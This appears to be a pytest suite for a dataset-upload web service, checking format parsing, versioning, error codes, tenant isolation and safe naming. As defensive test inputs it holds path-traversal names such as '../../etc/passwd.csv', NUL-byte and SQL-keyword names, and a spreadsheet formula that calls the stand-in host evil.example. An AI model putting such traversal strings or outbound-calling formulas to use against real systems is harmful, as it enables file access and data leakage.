"""The datasets function in-process (as Cloud Functions serves it) against real PostgreSQL and a folder."""

from __future__ import annotations

import io
import json
import os
from pathlib import Path

import polars as pl
import pytest

from tests.support.data import SALES_CSV, airlines_parquet, flights_csv


def upload(client, user, domain, filename, data, **form):
    return client.post(f"/{domain}", headers={"X-User-Id": user},
                       data={"file": (io.BytesIO(data), filename), **form})


def xlsx_bytes(frame: pl.DataFrame) -> bytes:
    buffer = io.BytesIO()
    frame.write_excel(buffer)
    return buffer.getvalue()


def stored_files(local_env) -> list[Path]:
    root = Path(local_env["LOCAL_STATE_DIR"]) / "blobs"
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


@pytest.mark.parametrize("fmt", ["csv", "parquet", "xlsx", "json", "ndjson", "tsv"])
def test_every_format_uploads_and_previews_the_same_rows(datasets_client, user_id, fmt):
    frame = pl.DataFrame({"Region Name": ["North", "South", "East"], "Revenue ($)": [10.5, 20.0, 7.25],
                          "units": [1, 2, 3]})
    data = {
        "csv": lambda: frame.write_csv().encode(),
        "tsv": lambda: frame.write_csv(separator="\t").encode(),
        "parquet": lambda: _parquet(frame),
        "xlsx": lambda: xlsx_bytes(frame),
        "json": lambda: json.dumps(frame.to_dicts()).encode(),
        "ndjson": lambda: frame.write_ndjson().encode(),
    }[fmt]()
    resp = upload(datasets_client, user_id, "shop", f"Sales 2024.{fmt}", data)
    assert resp.status_code == 201, resp.get_json()
    record = resp.get_json()
    assert record["name"] == "sales_2024" and record["rows"] == 3 and record["format"] == fmt
    assert [c["name"] for c in record["columns"]] == ["region_name", "revenue", "units"]
    assert [c["label"] for c in record["columns"]] == ["Region Name", "Revenue ($)", "units"]
    assert [c["dtype"] for c in record["columns"]] == ["string", "float", "integer"]

    got = datasets_client.get("/shop/sales_2024?limit=2&offset=1", headers={"X-User-Id": user_id}).get_json()
    assert got["preview"]["rows"] == [["South", 20.0, 2], ["East", 7.25, 3]]
    assert got["preview"]["total_rows"] == 3
    assert got["profile"]["columns"][0]["top_values"][0]["count"] == 1


def _parquet(frame: pl.DataFrame) -> bytes:
    buffer = io.BytesIO()
    frame.write_parquet(buffer)
    return buffer.getvalue()


def test_listing_domains_and_datasets(datasets_client, user_id):
    assert upload(datasets_client, user_id, "travel", "flights.csv", flights_csv()).status_code == 201
    assert upload(datasets_client, user_id, "travel", "airlines.parquet", airlines_parquet()).status_code == 201
    orders = upload(datasets_client, user_id, "shop", "sales.csv", SALES_CSV.read_bytes(), name="orders")
    assert orders.status_code == 201
    h = {"X-User-Id": user_id}
    domains = datasets_client.get("/", headers=h).get_json()["domains"]
    assert [(d["name"], d["dataset_count"]) for d in domains] == [("shop", 1), ("travel", 2)]
    listed = datasets_client.get("/travel", headers=h).get_json()["datasets"]
    assert [(d["name"], d["rows"]) for d in listed] == [("airlines", 16), ("flights", 5000)]
    assert "profile" not in listed[0] and "blobs" not in listed[0]
    assert datasets_client.get("/shop/orders", headers=h).get_json()["rows"] == 600


def test_uploading_the_same_name_makes_a_new_version(datasets_client, user_id):
    upload(datasets_client, user_id, "d", "t.csv", b"a,b\n1,2\n")
    second = upload(datasets_client, user_id, "d", "t.csv", b"a,b\n1,2\n3,4\n").get_json()
    assert second["version"] == 2 and second["rows"] == 2
    assert datasets_client.get("/d/t", headers={"X-User-Id": user_id}).get_json()["version"] == 2


@pytest.mark.parametrize(("filename", "data", "status", "code"), [
    ("notes.txt", b"hello", 415, "unsupported_file_type"),
    ("archive.zip", b"PK\x03\x04....", 415, "unsupported_file_type"),
    ("empty.csv", b"", 400, "empty_file"),
    ("blank.csv", b"   \n\n", 400, "empty_file"),
    ("header_only.csv", b"a,b,c\n", 422, "no_rows"),
    ("garbage.csv", bytes(range(256)) * 20, 422, "unreadable_file"),
    ("fake.parquet", b"a,b\n1,2\n", 415, "content_mismatch"),
    ("fake.xlsx", b"a,b\n1,2\n", 415, "content_mismatch"),
    ("lying.csv", b"PAR1\x00\x00\x00PAR1", 415, "content_mismatch"),
    ("ragged.csv", b"a,b\n1,2\n3,4,5\n", 422, "ragged_rows"),
    ("broken.json", b'[{"a": 1}, {"a": ', 422, "unreadable_file"),
    ("scalar.json", b"42", 422, "unreadable_file"),
    ("truncated.parquet", b"PAR1\x00\x00garbage", 422, "unreadable_file"),
])
def test_bad_files_get_a_clear_error_and_store_nothing(datasets_client, user_id, local_env, filename, data, status,
                                                       code):
    resp = upload(datasets_client, user_id, "d", filename, data)
    assert resp.status_code == status, resp.get_json()
    assert resp.get_json()["error"]["code"] == code
    assert datasets_client.get("/", headers={"X-User-Id": user_id}).get_json()["domains"] == []
    assert stored_files(local_env) == []


@pytest.mark.parametrize(("domain", "form", "code"), [
    ("..", {}, "invalid_domain"),
    ("bad%00domain", {}, "invalid_characters"),  # NUL in client input: refused at the edge
    ("x" * 65, {}, "invalid_domain"),
    ("ok", {"name": "../../etc"}, "invalid_dataset_name"),
    ("ok", {"name": "1table"}, "invalid_dataset_name"),
])
def test_bad_names_are_refused(datasets_client, user_id, local_env, domain, form, code):
    resp = upload(datasets_client, user_id, domain, "t.csv", b"a\n1\n", **form)
    assert resp.status_code in (400, 404), resp.get_json()
    assert resp.get_json()["error"]["code"] == code
    assert stored_files(local_env) == []


def test_upload_without_a_file_field(datasets_client, user_id):
    resp = datasets_client.post("/d", headers={"X-User-Id": user_id},
                                data={"other": (io.BytesIO(b"a\n1\n"), "t.csv")})
    assert resp.status_code == 400 and resp.get_json()["error"]["code"] == "missing_file"
    raw = datasets_client.post("/d", headers={"X-User-Id": user_id}, data=b"a,b\n1,2\n", content_type="text/csv")
    assert raw.status_code == 415 and raw.get_json()["error"]["code"] == "unsupported_content_type"


def test_upload_over_the_limit_is_413_with_the_limit(local_env, user_id):
    from convoinsight.settings import get_settings
    from tests.conftest import function_client

    os.environ["MAX_UPLOAD_BYTES"] = "1000"
    get_settings.cache_clear()
    resp = upload(function_client("datasets"), user_id, "d", "big.csv", b"a\n" + b"1\n" * 2000)
    assert resp.status_code == 413 and "1,000" in resp.get_json()["error"]["message"]
    assert stored_files(local_env) == []


def test_unknown_domain_and_dataset_are_404(datasets_client, user_id):
    h = {"X-User-Id": user_id}
    assert datasets_client.get("/nowhere", headers=h).get_json()["error"]["code"] == "domain_not_found"
    upload(datasets_client, user_id, "d", "t.csv", b"a\n1\n")
    missing = datasets_client.get("/d/missing", headers=h)
    assert missing.status_code == 404 and missing.get_json()["error"]["code"] == "dataset_not_found"


def test_another_tenants_data_answers_404(datasets_client, user_id):
    upload(datasets_client, user_id, "d", "t.csv", b"a\n1\n")
    intruder = {"X-User-Id": f"{user_id}-other"}
    assert datasets_client.get("/", headers=intruder).get_json()["domains"] == []
    assert datasets_client.get("/d", headers=intruder).status_code == 404
    assert datasets_client.get("/d/t", headers=intruder).status_code == 404


# A 35-digit offset (found by schemathesis) overflowed the engine's slice: a 500 before it was bounded.
@pytest.mark.parametrize("query", ["limit=-1", "limit=abc", "offset=-5", "limit=100000",
                                   "offset=2237704677958120210122686790107136"])
def test_bad_preview_parameters(datasets_client, user_id, query):
    upload(datasets_client, user_id, "d", "t.csv", b"a\n1\n")
    resp = datasets_client.get(f"/d/t?{query}", headers={"X-User-Id": user_id})
    assert resp.status_code == 422 and resp.get_json()["error"]["code"] == "invalid_parameter"


@pytest.mark.parametrize(("filename", "expected"), [
    ("Café Ventes 2024.csv", "cafe_ventes_2024"),
    ("数据.csv", "dataset"),
    ("../../etc/passwd.csv", "passwd"),
    ("select.csv", "select_data"),
    ("2024 sales.csv", "dataset_2024_sales"),
    ("x" * 5000 + ".csv", "x" * 63),
])
def test_file_names_become_safe_table_names(datasets_client, user_id, local_env, filename, expected):
    resp = upload(datasets_client, user_id, "d", filename, b"a\n1\n")
    assert resp.status_code == 201, resp.get_json()
    assert resp.get_json()["name"] == expected
    root = Path(local_env["LOCAL_STATE_DIR"]) / "blobs"
    assert all(p.resolve().is_relative_to(root.resolve()) for p in stored_files(local_env))
    assert all(f"/tenants/{user_id}/domains/d/datasets/{expected}/" in str(p) for p in stored_files(local_env))


def test_a_file_name_that_is_not_utf8(datasets_client, user_id):
    boundary = "XyZ"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"".encode()
            + "ventes_é".encode("latin-1") + b".csv\"\r\nContent-Type: text/csv\r\n\r\na,b\r\n1,2\r\n"
            + f"--{boundary}--\r\n".encode())
    resp = datasets_client.post("/d", headers={"X-User-Id": user_id}, data=body,
                                content_type=f"multipart/form-data; boundary={boundary}")
    assert resp.status_code == 400 and resp.get_json()["error"]["code"] == "invalid_multipart"
    assert "UTF-8" in resp.get_json()["error"]["message"]


@pytest.mark.parametrize("domain", ["a" * 65, "-leading-dash", "has space", "dot.name", "ünïcode"])
def test_bad_domain_names(datasets_client, user_id, local_env, domain):
    resp = upload(datasets_client, user_id, domain, "t.csv", b"a\n1\n")
    assert resp.status_code == 400 and resp.get_json()["error"]["code"] == "invalid_domain"
    assert stored_files(local_env) == []


@pytest.mark.parametrize("name", ["a" * 64, "has space", "semi;colon", "../x", "select"])  # NUL: test_nul_*
def test_bad_explicit_dataset_names(datasets_client, user_id, local_env, name):
    resp = upload(datasets_client, user_id, "d", "t.csv", b"a\n1\n", name=name)
    assert resp.status_code == 400 and resp.get_json()["error"]["code"] == "invalid_dataset_name"
    assert stored_files(local_env) == []


def test_duplicate_and_keyword_headers_load_and_stay_queryable(datasets_client, user_id, local_env, sql_engine):
    from convoinsight.settings import load_settings
    from convoinsight.sql.compile import compile_select
    from convoinsight.sql.execute import SqlLimits, run_select

    data = b"order,order,select,from,Group By\nx,1,2,3,4\ny,5,6,7,8\nx,9,10,11,12\n"
    record = upload(datasets_client, user_id, "d", "t.csv", data).get_json()
    assert [c["name"] for c in record["columns"]] == ["order", "order_2", "select", "from", "group_by"]
    assert [c["label"] for c in record["columns"]] == ["order", "order (2)", "select", "from", "Group By"]
    parquet = next(p for p in stored_files(local_env) if p.name == "data.parquet")
    checked = compile_select('SELECT "order", SUM("select") AS s FROM t GROUP BY "order" ORDER BY "order"', {"t"})
    result = run_select(checked, {"t": str(parquet)}, SqlLimits.from_settings(load_settings({})), sql_engine)
    assert result.rows == [["x", 12], ["y", 6]]


def test_xlsx_formulas_arrive_as_their_values(datasets_client, user_id):
    import xlsxwriter

    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    sheet = book.add_worksheet("Data")
    sheet.write_row(0, 0, ["item", "price", "qty", "total"])
    sheet.write_row(1, 0, ["a", 2.5, 4])
    sheet.write_formula(1, 3, "=B2*C2", None, 10.0)
    sheet.write_row(2, 0, ["b", 1.0, 3])
    sheet.write_formula(2, 3, '=WEBSERVICE("http://evil.example/x")', None, 3.0)
    book.add_worksheet("Other").write_row(0, 0, ["z"])
    book.close()
    record = upload(datasets_client, user_id, "d", "book.xlsx", buffer.getvalue(), sheet="Data").get_json()
    got = datasets_client.get("/d/book", headers={"X-User-Id": user_id}).get_json()["preview"]["rows"]
    assert record["rows"] == 2 and got == [["a", 2.5, 4, 10.0], ["b", 1.0, 3, 3.0]]
    missing = upload(datasets_client, user_id, "d", "book.xlsx", buffer.getvalue(), sheet="Nope")
    assert missing.status_code == 422 and missing.get_json()["error"]["code"] == "sheet_not_found"
